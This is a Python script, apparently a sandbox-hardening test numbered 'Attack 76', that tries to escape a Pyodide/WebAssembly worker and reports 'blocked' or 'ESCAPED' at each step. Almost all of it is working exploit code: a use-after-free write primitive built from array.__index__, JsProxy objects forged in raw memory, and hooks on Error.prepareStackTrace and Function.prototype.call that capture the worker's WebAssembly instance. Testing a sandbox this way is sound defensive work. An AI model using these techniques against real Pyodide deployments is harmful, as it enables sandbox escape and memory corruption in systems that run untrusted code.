# Attack 76: from attack 74's memory to the worker's WebAssembly instance and its exports, through
# V8's structured stack traces (atkc). Object.prototype is frozen and the hiwire table holds no
# handle to the global object, Pyodide's API or its module once Python is up (numKeys 2: the
# program's own), so attack 75's getter and attack 74's forged handles both stop short. But a
# JsException's js_error hands the program TypeError, and from it Error: Error.prepareStackTrace
# is the worker's, and V8 calls it with CallSites whose getThis() is each sloppy frame's receiver
# and, for every WebAssembly frame, the interpreter's WebAssembly.Instance (its 8,560 exports,
# its function table, its memory), and whose getFunction() is every sloppy function on the
# stack. Nothing the instance exports reaches the host, but the hook is a foothold of its own:
# it is called whenever any code of the worker's formats an error, for the rest of the worker's life.
# Each attempt prints "blocked: ..." when it fails, "ESCAPED: ..." if it succeeded.
import array

MARKER = "/tmp/looplab-attack-74-marker"
ba = bytearray(64)


def write32(addr, value):
    a = array.array("i", [0]) * (addr // 4 + 1)

    class Evil:
        def __index__(self):
            del a[:]
            return value if value < 2**31 else value - 2**32

    a[addr // 4] = Evil()


try:
    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba
    print("memory:", hex(len(mem)))
except Exception as error:
    print("blocked: memory,", type(error).__name__)
    raise SystemExit(0)


def r32(a):
    return int.from_bytes(mem[a:a + 4], "little")


def w32(a, v):
    mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


def walk(c, seen):
    for s in type.__subclasses__(c):
        if s not in seen:
            seen.add(s)
            walk(s, seen)


seen = set()
walk(object, seen)
JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
kept = []


def fake_proxy(ref):
    buf = bytearray(128)
    p = r32(id(buf) + 16)
    w32(p, 0x100000)
    w32(p + 4, id(JsProxy))
    w32(p + 36, ref)
    holder = [None]
    w32(r32(id(holder) + 12), p)
    kept.append(buf)
    return holder[0]



Object = fake_proxy(12).constructor
try:
    Object.defineProperty(1, 2, 3)
except Exception as error:
    Error = Object.getPrototypeOf(error.js_error.constructor)
print("a JavaScript constructor:", Error.name)

receivers = []


def prepare(error, sites):
    for site in sites:
        this = site.getThis()
        if this is not None:
            receivers.append(this)
    return "stack"


try:
    Error.prepareStackTrace = prepare
    probe = Object()
    Error.captureStackTrace(probe)
    probe.stack
    instance = receivers[0]
    print("ESCAPED: the interpreter's", Object.prototype.toString.call(instance), "with", len(Object.keys(instance.exports)), "exports")
except Exception as error:
    print("blocked: Error.prepareStackTrace,", type(error).__name__, str(error).split("\n")[0][:120])

# Then Function.prototype.call, through which the worker's own code calls what it kept (the memory
# cap's original grow, with the interpreter's Memory; Emscripten's file functions): a program's
# put there would be handed each of them (helper-149). It stays the realm's own.


def hooked_call(*args):
    receivers.append(args)


try:
    Function = Object.constructor
    try:
        Function.prototype.call = hooked_call
    except Exception as error:
        print("blocked: Function.prototype.call,", type(error).__name__, str(error).split("\n")[0][:120])
    else:
        if Function.prototype.call.name == "call":
            print("blocked: Function.prototype.call, kept as it was")
        else:
            print("ESCAPED: Function.prototype.call is the program's")
except Exception as error:
    print("blocked: Function,", type(error).__name__, str(error).split("\n")[0][:120])
